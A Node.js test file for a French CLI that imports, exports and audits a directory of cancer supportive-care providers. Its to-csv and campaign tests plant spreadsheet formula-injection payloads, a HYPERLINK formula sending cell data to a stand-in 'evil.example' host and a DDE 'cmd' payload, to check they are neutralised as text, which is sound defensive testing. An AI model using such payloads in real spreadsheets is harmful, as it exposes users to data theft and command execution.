// Issue 13, the CLI side: the built `sos-feed` as a data steward runs it. from-csv on the sheet
// with ordinary mistakes (CSV in Windows-1252 and .xlsx), its guards (no empty feed, no halved feed
// without --force, structures over 14 months left out unless --keep); to-csv (CSV and .xlsx, formula
// cells kept as text, read back to the same feed); diff; campaign on a fixed day; stats; validate on
// an empty feed; every exit code.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import readXlsxFile from 'read-excel-file/node';
import writeXlsxFile from 'write-excel-file/node';

const root = resolve(import.meta.dirname, '../..');
const cli = join(root, 'dist/cli/sos-feed.js');
const fixture = (name) => join(root, 'test/fixtures/feeds', name);
const dir = mkdtempSync(join(tmpdir(), 'sos-sheet-'));
after(() => rmSync(dir, { recursive: true, force: true }));
const PUBLISHER = ['--publisher-id', 'onco-exemple', '--publisher-name', 'Onco-Exemple', '--region', '75', '--now', '2026-11-22', '--generated-at', '2026-11-22T08:00:00Z'];

function run(args, timeout = 60_000) {
  return new Promise((done) => {
    execFile(process.execPath, [cli, ...args], { cwd: root, timeout, maxBuffer: 64 * 1024 * 1024, encoding: 'buffer' }, (error, stdout, stderr) => {
      done({ code: error ? error.code ?? error.signal ?? 1 : 0, stdout: stdout.toString('utf8'), bytes: stdout, stderr: stderr.toString('utf8') });
    });
  });
}
const write = (name, content) => {
  const file = join(dir, name);
  writeFileSync(file, content);
  return file;
};
const cp1252 = (text) => Buffer.from([...text].map((ch) => ({ '€': 0x80, '’': 0x92, 'œ': 0x9c, 'Œ': 0x8c })[ch] ?? (ch.charCodeAt(0) < 256 ? ch.charCodeAt(0) : 0x3f)));

// The sheet of issue 13 (5 structures, 8 offers): headers of the steward's own, labels for codes,
// a phone without its leading zero, JJ/MM/AAAA dates, the same hospital twice.
const HEADER = ['Identifiant', 'Nom de la structure', 'Type', 'FINESS', 'Adresse', 'CP', 'Ville', 'Téléphone', 'Courriel', 'Date de vérification', 'Réf. offre', 'Soin', 'Soins précis', 'Intitulé', 'Publics', 'Lieu', 'Phases', 'Référent', 'Mail référent'];
const PAU = ['ch-pau', 'Centre hospitalier de Pau', 'Établissement de santé', '640780417', '4 boulevard Hauterive', '64000', 'Pau', '559923000', 'sos@ch-pau.test', '15/01/2026'];
const LIGUE = ['ligue-64', 'Ligue contre le cancer, comité 64', 'Comité de la Ligue', '', '12 rue Carnot', '64000', 'Pau', '05 59 00 00 00', 'cd64@ligue.test', '02/03/2026'];
const ROSE = ['asso-rose', 'Association Rose Espoir', 'association', '', '3 allée des Roses', '64100', 'Bayonne', '05 59 11 22 33', 'contact@rose.test', '10/01/2026'];
const ROWS = [
  [...PAU, 'ch-pau-douleur', 'Douleur', '', 'Consultation douleur', 'Patients', 'En établissement de santé', 'Après traitement', 'Marie Durand', 'm.durand@ch-pau.test'],
  [...PAU, 'ch-pau-socio', 'Socio-esthétique', '', 'Atelier d’image de soi', 'Patients', 'En établissement de santé', '', 'Marie Durand', 'm.durand@ch-pau.test'],
  [...LIGUE, 'ligue-64-apa', 'Activité physique adaptée', '', 'Marche nordique', 'Patients', 'En ville (cabinet, association)', '', 'Paul Martin', 'p.martin@ligue.test'],
  [...LIGUE, 'ligue-64-aidants', 'soutien-aidants', '', 'Groupe des proches', 'Aidants', 'ville', '', 'Paul Martin', 'p.martin@ligue.test'],
  [...ROSE, 'asso-rose-psy', 'Psychologie', '', 'Écoute psychologique', 'Patients|Proches et aidants', 'Téléconsultation', '', '', ''],
  ['cs-biarritz', 'Centre de santé de Biarritz', 'Centre de santé', '', '1 avenue Foch', '64200', 'Biarritz', '05 59 22 33 44', '', '2026-06-01', 'cs-biarritz-nutri', 'nutrition', '', 'Consultation diététique', 'patient', 'ville', '', '', ''],
  ['ch-pau-sos', 'Centre hospitalier de Pau', 'etablissement-sante', '640780417', '4 boulevard Hauterive', '64000', 'Pau', '05 59 92 30 00', '', '2026-02-01', 'ch-pau-social', 'social', '', 'Permanence sociale', 'patient', 'etablissement', '', '', ''],
  [...ROSE, 'asso-rose-groupe', 'psychologie', '', 'Groupe de parole', 'Patients', 'ville', 'traitement', '', ''],
];
const csv = (header, rows) => [header, ...rows].map((r) => r.map((v) => (/[;"\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(';')).join('\r\n') + '\r\n';

/** The problems the sheet must show in one run, each with its suggestion. */
const EXPECTED = [
  /ligne 2, colonne « Téléphone » : « 559923000 » complété en « 05 59 92 30 00 » \(zéro initial perdu par le tableur \?\)/,
  /ligne 2, colonne « Phases » : « Après traitement » lu comme le code « apres-traitement »/,
  /ligne 3, colonne « Soin » : code inconnu "Socio-esthétique" .*→ vouliez-vous dire « image-de-soi » : Bien-être et image de soi .*soins_precis \(« socio-esthetique »\) : ligne ignorée/,
  /ligne 4, colonne « Type » : code inconnu "Comité de la Ligue" .*→ vouliez-vous dire « comite-ligue » : Comité de la Ligue contre le cancer \? : structure « ligue-64 » ignorée avec ses 2 lignes \(4, 5\)/,
  /ligne 5, colonne « Publics » : code inconnu "Aidants" .*→ vouliez-vous dire « proche-aidant » : Proches et aidants \?/,
  /ligne 6, colonne « Lieu » : code inconnu "Téléconsultation" .*→ vouliez-vous dire « distance » : À distance \(téléphone, visio\) \?/,
  /ligne 8, colonne « FINESS » : même FINESS « 640780417 » que la structure « ch-pau » \(ligne 2\)/,
];

test('from-csv, the steward’s Windows-1252 sheet: every problem in one run with its suggestion; the feed without the private columns (exit 1)', async () => {
  const file = write('erreurs.csv', cp1252(csv(HEADER, ROWS)));
  const out = join(dir, 'erreurs.json');
  const r = await run(['from-csv', file, ...PUBLISHER, '--out', out, '--max', '50']);
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /Lecture : Windows-1252, séparateur « ; », 8 lignes de données/);
  assert.match(r.stderr, /Colonnes lues sous un autre nom : « Identifiant » → structure_id, « Nom de la structure » → structure_nom, « Type » → type_structure, « CP » → code_postal, « Ville » → commune/);
  for (const re of EXPECTED) assert.match(r.stderr, re);
  assert.match(r.stderr, /Verdict : flux produit sans 4 lignes sur 8 \(4 structures sur 5 gardées\)/);
  const feed = JSON.parse(readFileSync(out, 'utf8'));
  assert.deepEqual(feed.structures.map((s) => s.id), ['ch-pau', 'asso-rose', 'cs-biarritz', 'ch-pau-sos']);
  assert.equal(feed.structures[0].verifiedAt, '2026-01-15');
  assert.equal(feed.structures[0].contact.phone, '05 59 92 30 00');
  assert.doesNotMatch(JSON.stringify(feed), /Durand|Martin|référent|referent/);
  // Validated by the same rules: the feed written is valid.
  const v = await run(['validate', out, '--now', '2026-11-22', '--json']);
  assert.deepEqual(JSON.parse(v.stdout).errors, []);
});

test('from-csv reads an .xlsx workbook as Excel stores it (numbers, dates) with the same problems at the same cells', async () => {
  const typed = (h, v) => {
    if (!v) return null;
    if (h === 'Date de vérification' && /^\d\d\/\d\d\/\d{4}$/.test(v)) {
      const [d, mo, y] = v.split('/').map(Number);
      return { value: new Date(Date.UTC(y, mo - 1, d)), type: Date, format: 'dd/mm/yyyy' };
    }
    if ((h === 'Téléphone' || h === 'FINESS' || h === 'CP') && /^\d+$/.test(v)) return { value: Number(v), type: Number };
    return { value: v, type: String };
  };
  const file = join(dir, 'erreurs.xlsx');
  await writeXlsxFile([HEADER.map((h) => ({ value: h, type: String })), ...ROWS.map((r) => r.map((v, i) => typed(HEADER[i], v)))], { sheet: 'Annuaire' }).toFile(file);
  const r = await run(['from-csv', file, ...PUBLISHER, '--max', '50']);
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /Lecture : classeur Excel \(\.xlsx\), feuille « Annuaire », 8 lignes de données/);
  for (const re of EXPECTED) assert.match(r.stderr, re);
  const feed = JSON.parse(r.stdout);
  assert.equal(feed.structures[0].verifiedAt, '2026-01-15');
  assert.equal(feed.structures[0].address.postalCode, '64000');
});

test('from-csv never writes a feed where every structure was rejected (exit 2), even with --force', async () => {
  const file = write('tout-faux.csv', csv(HEADER, ROWS.map((r) => r.map((v, i) => (HEADER[i] === 'Soin' ? 'n’importe quoi' : v)))));
  const out = join(dir, 'jamais.json');
  for (const extra of [[], ['--force']]) {
    const r = await run(['from-csv', file, ...PUBLISHER, '--out', out, ...extra]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /Erreur : aucune structure n’a pu être gardée \(5 dans le tableur\) : un flux vide viderait l’annuaire de tous les sites partenaires/);
    assert.match(r.stderr, /Verdict : aucune structure valide, aucun flux écrit\./);
    // Every row's problem is still listed, so one run fixes them all.
    assert.match(r.stderr, /Lignes ignorées \(12\)/);
    assert.ok(!existsSync(out));
    assert.equal(r.stdout, '');
  }
});

test('from-csv refuses a feed that lost more than half of the structures unless --force (exit 2, then 1)', async () => {
  const rows = ROWS.filter((r) => ['ch-pau', 'ligue-64', 'asso-rose', 'cs-biarritz'].includes(r[0]))
    .map((r) => (r[0] === 'cs-biarritz' ? r : r.map((v, i) => (HEADER[i] === 'Type' ? 'hôpital' : v))));
  const file = write('moitie.csv', csv(HEADER, rows));
  const out = join(dir, 'moitie.json');
  const refused = await run(['from-csv', file, ...PUBLISHER, '--out', out]);
  assert.equal(refused.code, 2, refused.stderr);
  assert.match(refused.stderr, /Erreur : 1 structure sur 4 gardées : moins de la moitié\. Le flux n’est pas écrit .*relancez avec --force pour l’écrire quand même/);
  assert.ok(!existsSync(out));
  const forced = await run(['from-csv', file, ...PUBLISHER, '--out', out, '--force']);
  assert.equal(forced.code, 1, forced.stderr);
  assert.match(forced.stderr, /\(--force : moins de la moitié des structures\)/);
  assert.deepEqual(JSON.parse(readFileSync(out, 'utf8')).structures.map((s) => s.id), ['cs-biarritz']);
});

test('from-csv leaves out structures verified more than 14 months ago, unless --keep', async () => {
  const head = ['structure_id', 'structure_nom', 'type_structure', 'code_postal', 'commune', 'verifie_le', 'offre_id', 'soin', 'publics', 'lieux'];
  const rows = [['a', 'A', 'msp', '33000', 'Bordeaux', '2026-06-01', 'a1', 'douleur', 'patient', 'ville'], ['b', 'B', 'msp', '33000', 'Bordeaux', '2025-01-01', 'b1', 'douleur', 'patient', 'ville'], ['c', 'C', 'msp', '33000', 'Bordeaux', '2026-05-01', 'c1', 'douleur', 'patient', 'ville']];
  const file = write('vieux.csv', csv(head, rows));
  const r = await run(['from-csv', file, ...PUBLISHER]);
  assert.equal(r.code, 1, r.stderr);
  assert.deepEqual(JSON.parse(r.stdout).structures.map((s) => s.id), ['a', 'c']);
  assert.match(r.stderr, /Structures retirées du flux publié \(vérifiées il y a plus de 14 mois\) \(1\)\n {4}structure « b » : B : vérifiée le 2025-01-01, il y a plus de 14 mois : retirée du flux publié jusqu’à sa confirmation \(--keep b pour la garder\)/);
  // The verdict says why one is missing (no row was wrong): not « corrigez les erreurs ».
  assert.match(r.stderr, /Verdict : flux produit sans 1 structure vérifiée il y a plus de 14 mois \(2 structures sur 3 gardées\)(, avec \d+ avertissements)? : relancez-la \(sos-feed campaign\), ou --keep pour la garder\./);
  for (const keep of [['--keep', 'b'], ['--keep', 'all']]) {
    const k = await run(['from-csv', file, ...PUBLISHER, ...keep]);
    assert.equal(k.code, 0, k.stderr);
    assert.deepEqual(JSON.parse(k.stdout).structures.map((s) => s.id), ['a', 'b', 'c']);
  }
  // Two left out: the verdict speaks of them in the plural (« relancez-les », not « relancez-las »).
  const older = [...rows, ['d', 'D', 'msp', '33000', 'Bordeaux', '2025-02-01', 'd1', 'douleur', 'patient', 'ville'], ['e', 'E', 'msp', '33000', 'Bordeaux', '2026-04-01', 'e1', 'douleur', 'patient', 'ville']];
  const two = await run(['from-csv', write('vieux-2.csv', csv(head, older)), ...PUBLISHER]);
  assert.equal(two.code, 1, two.stderr);
  assert.match(two.stderr, /Verdict : flux produit sans 2 structures vérifiées il y a plus de 14 mois \(3 structures sur 5 gardées\)(, avec \d+ avertissements)? : relancez-les \(sos-feed campaign\), ou --keep pour les garder\./);
});

// ---- to-csv -------------------------------------------------------------------------------

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")';
function hostileFeed() {
  const feed = JSON.parse(readFileSync(fixture('valid-small.json'), 'utf8'));
  feed.structures[0].name = HOSTILE;
  feed.structures[0].offers[0].label = "+cmd|' /C calc'!A0";
  feed.structures[0].offers[0].description = "'=déjà une apostrophe";
  return feed;
}

test('to-csv: the feed as the working spreadsheet for French Excel (BOM, « ; »), formula cells kept as text, read back to the same feed', async () => {
  const feedFile = write('hostile.json', JSON.stringify(hostileFeed()));
  const r = await run(['to-csv', feedFile]);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual([...r.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const text = r.stdout.slice(1);
  const lines = text.split('\r\n');
  assert.ok(lines[0].startsWith('structure_id;structure_nom;type_structure;finess;siret;adresse;code_postal;commune;'));
  assert.match(lines[0], /;referent_nom;referent_email;referent_telephone;derniere_relance;offre_id;soin;/);
  // Every formula-looking cell starts with an apostrophe: a spreadsheet shows it as text.
  assert.ok(text.includes(`;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Cliquez"")";`), text.slice(0, 400));
  assert.ok(text.includes(`;'+cmd|' /C calc'!A0;`));
  assert.ok(text.includes(`;''=déjà une apostrophe;`));
  assert.doesNotMatch(text, /;=HYPERLINK|;\+cmd/);
  assert.match(r.stderr, /Tableur : 3 structures, \d+ lignes \(une par offre\) → sortie standard \(CSV UTF-8, « ; »\)/);
  // The sheet read back by from-csv is the same feed.
  const sheet = join(dir, 'aller.csv');
  assert.equal((await run(['to-csv', feedFile, '--out', sheet])).code, 0);
  const feed = hostileFeed();
  const back = await run(['from-csv', sheet, '--publisher-id', feed.publisher.id, '--publisher-name', feed.publisher.name, '--region', '75', '--publisher-url', feed.publisher.url, '--contact-email', feed.publisher.contact.email, '--license', feed.publisher.license, '--generated-at', feed.generatedAt, '--now', '2026-11-22']);
  assert.equal(back.code, 0, back.stderr);
  assert.deepEqual(JSON.parse(back.stdout), JSON.parse(readFileSync(feedFile, 'utf8')));
});

test('to-csv --xlsx: a workbook whose formula-looking cells are text cells starting with an apostrophe; coordinates are numbers', async () => {
  const feedFile = write('hostile-x.json', JSON.stringify(hostileFeed()));
  const noOut = await run(['to-csv', feedFile, '--xlsx']);
  assert.equal(noOut.code, 2);
  assert.match(noOut.stderr, /--xlsx écrit un classeur : indiquez le fichier avec --out/);
  const out = join(dir, 'annuaire.xlsx');
  const r = await run(['to-csv', feedFile, '--xlsx', '--out', out]);
  assert.equal(r.code, 0, r.stderr);
  const [{ sheet, data }] = await readXlsxFile(out);
  assert.equal(sheet, 'Annuaire');
  const col = (name) => data[0].indexOf(name);
  assert.equal(data[1][col('structure_nom')], `'${HOSTILE}`);
  assert.equal(typeof data[1][col('structure_nom')], 'string');
  assert.equal(data[1][col('intitule')], "'+cmd|' /C calc'!A0");
  assert.equal(data[1][col('latitude')], 44.8266);
  assert.equal(data[1][col('code_postal')], '33000');
  // No cell of the workbook is a formula (its XML holds no <f> element).
  const { unzipSync } = await import('fflate');
  const sheetXml = new TextDecoder().decode(unzipSync(readFileSync(out))['xl/worksheets/sheet1.xml']);
  assert.doesNotMatch(sheetXml, /<f[ >]/);
  // And it reads back to the same feed as the CSV.
  const a = await run(['from-csv', out, '--publisher-id', 'x', '--publisher-name', 'x', '--now', '2026-11-22', '--generated-at', '2026-10-01T08:00:00Z']);
  const csvFile = join(dir, 'annuaire-x.csv');
  await run(['to-csv', feedFile, '--out', csvFile]);
  const b = await run(['from-csv', csvFile, '--publisher-id', 'x', '--publisher-name', 'x', '--now', '2026-11-22', '--generated-at', '2026-10-01T08:00:00Z']);
  assert.deepEqual(JSON.parse(a.stdout), JSON.parse(b.stdout));
});

test('to-csv on a feed with records the widget would drop: they are written as they are, to fix (exit 1); unusable feed: exit 2', async () => {
  const r = await run(['to-csv', fixture('bad-care-code.json')]);
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /Les structures et offres que le widget ignorerait sont écrites telles quelles/);
  assert.match(r.stdout, /homeopathie/);
  for (const bad of [fixture('not-json.html'), fixture('wrong-format.json'), join(dir, 'absent.json')]) {
    const u = await run(['to-csv', bad]);
    assert.equal(u.code, 2, bad);
    assert.match(u.stderr, /Verdict : aucun tableur écrit\./);
    assert.doesNotMatch(u.stderr, /\n\s+at /);
  }
  const self = write('self.json', readFileSync(fixture('valid-small.json')));
  const s = await run(['to-csv', self, '--out', self]);
  assert.equal(s.code, 2);
  assert.match(s.stderr, /désigne le flux lu lui-même : il serait écrasé par le tableur/);
});

// ---- diff ---------------------------------------------------------------------------------

test('diff: exit 0 when the same, 1 with the changes listed (structures, offers, fields), 2 when unreadable', async () => {
  const before = JSON.parse(readFileSync(fixture('valid-small.json'), 'utf8'));
  const after = structuredClone(before);
  const [first, second] = after.structures;
  first.contact.phone = '05 56 00 00 99';
  first.offers[0].cost = 'gratuit';
  first.offers.push({ id: 'nouvelle-offre', care: 'nutrition', label: 'Atelier cuisine', audiences: ['patient'], settings: ['ville'] });
  after.structures = after.structures.filter((s) => s !== second);
  after.structures.push({ ...structuredClone(second), id: 'nouvelle-structure', name: 'Nouvelle structure', offers: second.offers.map((o) => ({ ...o, id: `n-${o.id}` })) });
  const a = write('avant.json', JSON.stringify(before));
  const b = write('apres.json', JSON.stringify(after));
  const same = await run(['diff', a, a]);
  assert.equal(same.code, 0, same.stderr);
  assert.match(same.stdout, /Aucune différence\./);
  const d = await run(['diff', a, b]);
  assert.equal(d.code, 1, d.stderr);
  assert.match(d.stdout, /Structures : 3 → 3 \(1 ajoutée, 1 retirée, 1 modifiée\)/);
  assert.match(d.stdout, /\+ Nouvelle structure \[nouvelle-structure\]/);
  assert.match(d.stdout, new RegExp(`- ${second.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\[${second.id}\\]`));
  assert.match(d.stdout, new RegExp(`~ ${first.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\[${first.id}\\]\\n {6}telephone : « 05 56 79 56 79 » → « 05 56 00 00 99 »`));
  assert.match(d.stdout, /\+ offre Atelier cuisine \[nouvelle-offre\]/);
  assert.match(d.stdout, /~ offre Consultation douleur \[chu-bdx-douleur\]\n {10}cout : « rembourse » → « gratuit »/);
  const json = await run(['diff', a, b, '--json']);
  assert.equal(json.code, 1);
  assert.deepEqual(JSON.parse(json.stdout).counts.structures, { before: 3, after: 3, added: 1, removed: 1, changed: 1 });
  // A spreadsheet against the feed it came from: no difference.
  const sheet = join(dir, 'avant.csv');
  await run(['to-csv', a, '--out', sheet]);
  const crossed = await run(['diff', a, sheet]);
  assert.equal(crossed.code, 0, crossed.stdout + crossed.stderr);
  const bad = await run(['diff', a, fixture('not-json.html')]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /Verdict : comparaison impossible\./);
  const missing = await run(['diff', a]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /indiquez le nouveau/);
});

// ---- campaign -----------------------------------------------------------------------------

test('campaign on a fixed day from the working spreadsheet: due, overdue, to remove; référents; the mail-merge CSV', async () => {
  const head = ['structure_id', 'structure_nom', 'type_structure', 'adresse', 'code_postal', 'commune', 'telephone', 'email', 'verifie_le', 'referent_nom', 'referent_email', 'derniere_relance', 'offre_id', 'soin', 'intitule', 'publics', 'lieux', 'cout'];
  const row = (id, name, verified, referent = ['', ''], email = '') => [id, name, 'association', '1 rue A', '33000', 'Bordeaux', '05 56 00 00 00', email, verified, ...referent, '', `${id}-1`, 'psychologie', 'Groupe de parole', 'patient', 'ville', 'gratuit'];
  const file = write('campagne.csv', csv(head, [
    row('a-jour', 'À jour', '01/06/2026'),
    row('bientot', 'Bientôt', '20/12/2025', ['Claire Martin', 'claire@exemple.fr']),
    row('retard', '=HYPERLINK("http://evil.example";"Retard")', '01/11/2025', ['Paul Roux', 'paul@exemple.fr']),
    row('vieux', 'Vieux', '01/10/2025', ['', ''], 'vieux@exemple.fr'),
    row('orphelin', 'Orphelin', '15/12/2025'),
  ]));
  const out = join(dir, 'publipostage.csv');
  const r = await run(['campaign', file, '--today', '2026-12-02', '--out', out, '--publisher-name', 'Onco-Exemple']);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /Campagne de vérification annuelle au 02\/12\/2026 : .*\(tableur\)\n5 structures : 1 à jour, 2 à relancer, 1 en retard, 1 à retirer/);
  assert.match(r.stdout, /À relancer \(vérification annuelle dans les 30 jours\) : 2\n {2}Orphelin \[orphelin\] : vérifiée le 15\/12\/2025, échéance le 15\/12\/2026 ; aucune adresse : ni référent ni courriel\n {2}Bientôt \[bientot\] : vérifiée le 20\/12\/2025, échéance le 20\/12\/2026 ; référent : Claire Martin <claire@exemple\.fr>/);
  assert.match(r.stdout, /En retard \(vérifiée il y a plus de 12 mois\) : 1\n {2}=HYPERLINK.* \[retard\] : vérifiée le 01\/11\/2025, retrait le 02\/01\/2027 sans réponse ; référent : Paul Roux <paul@exemple\.fr>/);
  assert.match(r.stdout, /À retirer \(vérifiée il y a plus de 14 mois\) : 1\n {2}Vieux \[vieux\] : vérifiée le 01\/10\/2025, retirée du flux publié ; pas de référent : courriel de la structure vieux@exemple\.fr/);
  assert.match(r.stdout, /1 structure sans adresse de référent ni courriel/);
  assert.match(r.stdout, /Publipostage : 4 messages → /);
  const bytes = readFileSync(out);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8').slice(1);
  assert.ok(text.startsWith('statut;structure_id;structure_nom;referent_nom;destinataire;destinataire_source;referent_telephone;derniere_relance;verifie_le;echeance;retrait_le;objet;message;lien_mailto\r\n'));
  assert.ok(text.includes(`\r\nen retard;retard;"'=HYPERLINK(""http://evil.example"";""Retard"")";Paul Roux;paul@exemple.fr;référent;;;01/11/2025;01/11/2026;02/01/2027;`), text.slice(0, 2000));
  assert.match(text, /\r\nà relancer;bientot;Bientôt;Claire Martin;claire@exemple\.fr;référent;;;20\/12\/2025;20\/12\/2026;21\/02\/2027;Annuaire des soins de support : merci de vérifier la fiche « Bientôt »;"Bonjour Claire Martin,\n\nOnco-Exemple publie l’annuaire régional/);
  assert.match(text, /mailto:claire@exemple\.fr\?subject=Annuaire%20des%20soins%20de%20support%20%3A%20merci%20de%20v%C3%A9rifier/);
  // A feed works too (no référent: the structure's own e-mail).
  const f = await run(['campaign', fixture('valid-small.json'), '--today', '2027-09-20']);
  assert.equal(f.code, 0, f.stderr);
  assert.match(f.stdout, /3 structures : /);
  const bad = await run(['campaign', join(dir, 'absent.csv')]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /fichier introuvable/);
  const badDay = await run(['campaign', file, '--today', '2026-02-30']);
  assert.equal(badDay.code, 2);
  assert.match(badDay.stderr, /--today attend une date AAAA-MM-JJ, reçu « 2026-02-30 »/);
});

// ---- stats --------------------------------------------------------------------------------

test('stats: coverage CSV (département × category) and white zones for the publisher’s region; quality, what to fix first', async () => {
  const out = join(dir, 'couverture.csv');
  const zones = join(dir, 'zones.csv');
  const r = await run(['stats', fixture('valid-small.json'), '--out', out, '--zones', zones]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /Départements : 16, 17, 19, 23, 24, 33, 40, 47, 64, 79, 86, 87 \(région 75 de l’éditeur\)/);
  assert.match(r.stdout, /Qualité des fiches : \d+\/100 en moyenne/);
  assert.match(r.stdout, /À compléter en priorité :/);
  const table = readFileSync(out, 'utf8').slice(1).trim().split('\r\n').map((l) => l.split(';'));
  assert.deepEqual(table[0], ['departement', 'nom_departement', 'soin', 'libelle_soin', 'structures', 'offres', 'offres_a_distance_seulement', 'communes', 'communes_a_plus_de_20_km']);
  assert.equal(table.length, 1 + 12 * 13);
  const gironde = table.find((c) => c[0] === '33' && c[2] === 'douleur');
  assert.equal(gironde[1], 'Gironde');
  assert.equal(gironde[4], '1');
  assert.ok(Number(gironde[7]) > 500, gironde.join(';'));
  assert.ok(Number(gironde[8]) < Number(gironde[7]));
  const white = readFileSync(zones, 'utf8').slice(1).trim().split('\r\n');
  assert.equal(white[0], 'soin;libelle_soin;departement;code_insee;commune;offre_sur_place_la_plus_proche_km');
  assert.ok(white.length > 1000);
  assert.ok(white.some((l) => /^douleur;[^;]+;64;64445;Pau;\d+$/.test(l)), 'Pau is far from the Bordeaux pain clinic');
  const narrowed = await run(['stats', fixture('valid-small.json'), '--departements', '33,40', '--rayon', '30']);
  assert.match(narrowed.stdout, /Départements : 33, 40 \(--departements\)/);
  assert.match(narrowed.stdout, /communes à plus de 30 km/);
  const bad = await run(['stats', fixture('valid-small.json'), '--departements', '33,999']);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--departements attend des codes/);
  const unreadable = await run(['stats', fixture('broken-envelope.json')]);
  assert.equal(unreadable.code, 2);
  assert.match(unreadable.stderr, /enveloppe du flux invalide.*\n\nVerdict : statistiques impossibles\./s);
  const self = await run(['stats', fixture('valid-small.json'), '--zones', fixture('valid-small.json')]);
  assert.equal(self.code, 2);
  assert.match(self.stderr, /--zones .* désigne le fichier lu lui-même/);
});

// ---- validate, options, help ---------------------------------------------------------------

test('validate warns on an empty feed (exit 1): publishing it would empty every partner site', async () => {
  const feed = JSON.parse(readFileSync(fixture('valid-small.json'), 'utf8'));
  feed.structures = [];
  const r = await run(['validate', write('vide.json', JSON.stringify(feed)), '--now', '2026-11-22']);
  assert.equal(r.code, 1, r.stdout);
  assert.match(r.stdout, /Flux vide \(1\)\n {4}structures : aucune structure : publié, ce flux viderait l’annuaire de tous les sites partenaires/);
  assert.match(r.stdout, /Verdict : flux vide : aucune structure à afficher, à ne pas publier\./);
  feed.structures = [{ id: 'x' }];
  const dropped = await run(['validate', write('vide2.json', JSON.stringify(feed)), '--now', '2026-11-22', '--json']);
  assert.equal(dropped.code, 1);
  assert.match(JSON.parse(dropped.stdout).warnings.find((w) => w.code === 'empty-feed').message, /aucune des 1 structures n’est valide/);
});

test('options that do not apply to a command, missing arguments: exit 2 with a French hint; --help lists every command', async () => {
  const wrong = await run(['validate', fixture('valid-small.json'), '--xlsx']);
  assert.equal(wrong.code, 2);
  assert.match(wrong.stderr, /l’option --xlsx ne s’applique pas à la commande validate\nAide : sos-feed --help/);
  const extra = await run(['to-csv', fixture('valid-small.json'), 'en-trop.csv']);
  assert.equal(extra.code, 2);
  assert.match(extra.stderr, /argument en trop : en-trop\.csv/);
  const unknown = await run(['publier', 'x']);
  assert.equal(unknown.code, 2);
  assert.match(unknown.stderr, /commande inconnue « publier » \(commandes : validate, from-csv, to-csv, diff, campaign, stats, help\)/);
  const help = await run(['--help']);
  for (const c of ['validate', 'from-csv', 'to-csv', 'diff', 'campaign', 'stats']) assert.match(help.stdout, new RegExp(`\\n  sos-feed ${c} `));
  assert.match(help.stdout, /--force/);
  assert.match(help.stdout, /--keep/);
});
